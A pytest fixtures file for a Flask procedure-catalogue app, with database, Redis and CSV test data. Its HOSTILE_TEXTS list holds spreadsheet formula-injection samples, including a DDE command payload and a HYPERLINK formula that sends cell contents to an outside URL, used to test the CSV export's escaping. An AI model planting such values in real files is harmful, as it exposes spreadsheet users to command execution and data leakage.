"""Fixtures: the app on SQLite, and on real PostgreSQL / Redis made private to this run."""

from __future__ import annotations

import os
import uuid
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import event, select
from sqlalchemy.engine import make_url

from app import create_app, csvfile
from app.catalogue import services as catalogue
from app.catalogue.models import Procedure
from app.extensions import db
from config import TestConfig

ROOT = Path(__file__).resolve().parent.parent
RUN_ID = f"{os.getpid()}_{uuid.uuid4().hex[:8]}"


def _unavailable(what: str, why: str):
    """Skip with a visible reason, except under CI where the server must be there."""
    message = f"{what} is not reachable ({why})"
    if TestConfig.CI:
        pytest.fail(f"{message}; CI=true requires it", pytrace=False)
    pytest.skip(message)


# --- real servers, private to this run ------------------------------------------------


def _libpq(url) -> str:
    return url.set(drivername="postgresql").render_as_string(hide_password=False)


@pytest.fixture(scope="session")
def postgres_url():
    """A database of its own on the PostgreSQL server, dropped at the end of the run."""
    import psycopg

    admin = make_url(TestConfig.TEST_DATABASE_URL)
    name = f"tetsuzuki_test_{RUN_ID}"
    try:
        conn = psycopg.connect(_libpq(admin), autocommit=True, connect_timeout=3)
    except psycopg.OperationalError as exc:
        _unavailable("PostgreSQL", str(exc).strip().splitlines()[0])
    with conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    try:
        yield admin.set(database=name).render_as_string(hide_password=False)
    finally:
        with psycopg.connect(_libpq(admin), autocommit=True) as conn:
            conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.fixture(scope="session")
def redis_server():
    """(url, key prefix) of the real Redis; every key under the prefix is removed at the end."""
    from redis import Redis
    from redis.exceptions import RedisError

    url = TestConfig.TEST_REDIS_URL
    client = Redis.from_url(url, socket_connect_timeout=3)
    try:
        client.ping()
    except (RedisError, OSError) as exc:
        _unavailable("Redis", str(exc))
    prefix = f"tetsuzuki_test:{RUN_ID}:"
    try:
        yield url, prefix
    finally:
        for pattern in (prefix + "*", f"*{prefix}*"):  # rate-limit keys carry the prefix inside
            for key in client.scan_iter(match=pattern):
                client.delete(key)
        client.close()


# --- the application --------------------------------------------------------------------


def _make_app(tmp_path: Path, database_url: str, **overrides):
    app = create_app(
        TestConfig,
        instance_path=str(tmp_path / "instance"),
        SQLALCHEMY_DATABASE_URI=database_url,
        **overrides,
    )
    with app.app_context():
        db.create_all()
    return app


def _drop(app):
    with app.app_context():
        db.session.remove()
        db.drop_all()
        db.engine.dispose()


@pytest.fixture
def app(tmp_path):
    app = _make_app(tmp_path, f"sqlite:///{tmp_path / 'app.db'}")
    yield app
    _drop(app)


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def backend_app(request, tmp_path):
    """The app on SQLite and on PostgreSQL: the same behaviour is expected of both."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path / 'app.db'}"
    else:
        url = request.getfixturevalue("postgres_url")
    app = _make_app(tmp_path, url)
    yield app
    _drop(app)


@pytest.fixture
def make_app(tmp_path):
    """Factory: an app with settings of the test's choosing; its engine is disposed after."""
    made = []

    def make(database_url: str | None = None, **overrides):
        url = database_url or f"sqlite:///{tmp_path / f'made{len(made)}.db'}"
        app = create_app(
            TestConfig,
            instance_path=str(tmp_path / "instance"),
            SQLALCHEMY_DATABASE_URI=url,
            **overrides,
        )
        made.append(app)
        return app

    yield make
    for app in made:
        with app.app_context():
            db.session.remove()
            db.engine.dispose()


@pytest.fixture
def client(app):
    return app.test_client()


@pytest.fixture
def runner(app):
    return app.test_cli_runner()


@pytest.fixture
def ctx(app):
    with app.app_context():
        yield app


# --- data ---------------------------------------------------------------------------------

WORKED_EXAMPLE = {
    # kpi.md's worked example, as the CSV files a department would send
    "procedures.csv": (
        "code,name_ja,department_code,department_name,priority\n"
        "A,手続A,01,部局01,1\n"
        "B,手続B,01,部局01,1\n"
        "C,手続C,02,部局02,1\n"
        "D,手続D,02,部局02,0\n"
    ),
    "volumes.csv": (
        "code,fiscal_year,receipts\n"
        "A,2021,50000\nA,2023,40000\n"
        "B,2021,30000\n"
        "C,2021,20000\nC,2023,25000\n"
        "D,2021,1000\n"
    ),
    "status_history.csv": (
        "code,status,effective_date,note\n"
        "A,online,2021-10-01,\n"
        "B,paper,2020-04-01,\n"
        "B,online,2023-06-01,\n"
        "C,partial,2020-04-01,\n"
        "D,excluded,2021-04-01,対面での審査が法令で必要\n"
    ),
}


# Texts a spreadsheet would run, or that look like the CSV writer's mark: names and notes
# that staff may record (a note "-休止", a department "@home") or an attacker may try.
HOSTILE_TEXTS = (
    "=1+2",
    '=HYPERLINK("https://example.com/?q="&A1,"詳細")',
    "=cmd|' /C calc'!A0",
    "+81-59-000-0000",
    "-休止",
    "-5",
    "@home",
    "@SUM(1+1)",
    "\t=1+2",
    "\t休止",
    "\r=1+2",
    "'=x",
    "'",
    "''",
    "'-",
    "一行目\r二行目",
)


def record_hostile_catalogue(folder: Path) -> None:
    """Record HOSTILE_TEXTS as staff would (in an app context): procedure, department and
    legal names through the CSV import of a file as the export writes it, notes through
    record_status. Procedure H<i> holds text i; procedure -001 of department +D too."""
    codes = [(f"H{i:02d}", f"H{i:02d}") for i in range(len(HOSTILE_TEXTS))] + [("-001", "+D")]
    texts = [*HOSTILE_TEXTS, HOSTILE_TEXTS[0]]
    folder.mkdir(parents=True, exist_ok=True)
    csvfile.write(
        folder / "procedures.csv",
        [
            ("code", "name_ja", "name_en", "department_code", "department_name", "priority",
             "procedure_type", "legal_basis", "exclusion_reason"),
            *((code, text, text, dept, text, i % 2, text, text, text)
              for i, ((code, dept), text) in enumerate(zip(codes, texts, strict=True))),
        ],
        newline="\n",
    )  # fmt: skip
    csvfile.write(
        folder / "volumes.csv",
        [("code", "fiscal_year", "receipts", "online_receipts")]
        + [(code, 2023, 100 + i, i) for i, (code, _) in enumerate(codes)],
        newline="\n",
    )
    report = catalogue.import_catalogue(folder, recorded_by="test")
    assert report.ok, [str(p) for p in report.problems]
    for (code, _), text in zip(codes, texts, strict=True):
        proc = db.session.scalar(select(Procedure).filter_by(code=code))
        catalogue.record_status(proc, "excluded", date(2020, 4, 1), note=text, by="test")
        catalogue.record_status(proc, "paper", date(2021, 4, 1), note=text, by="test")
    db.session.commit()


@pytest.fixture
def write_catalogue(tmp_path):
    """Write CSV files (name → text) to a fresh folder; → the folder."""
    counter = iter(range(1000))

    def write(files: dict[str, str | bytes], encoding: str = "utf-8") -> Path:
        folder = tmp_path / f"catalogue{next(counter)}"
        folder.mkdir()
        for name, content in files.items():
            data = content if isinstance(content, bytes) else content.encode(encoding)
            (folder / name).write_bytes(data)
        return folder

    return write


@pytest.fixture
def worked_example(write_catalogue):
    return write_catalogue(WORKED_EXAMPLE)


@pytest.fixture
def count_statements():
    """Context manager counting the SQL statements run on the app's engine."""
    from contextlib import contextmanager

    @contextmanager
    def counting():
        seen: list[str] = []

        def before(conn, cursor, statement, params, context, executemany):  # noqa: ARG001
            seen.append(statement)

        engine = db.engine
        event.listen(engine, "before_cursor_execute", before)
        try:
            yield seen
        finally:
            event.remove(engine, "before_cursor_execute", before)

    return counting
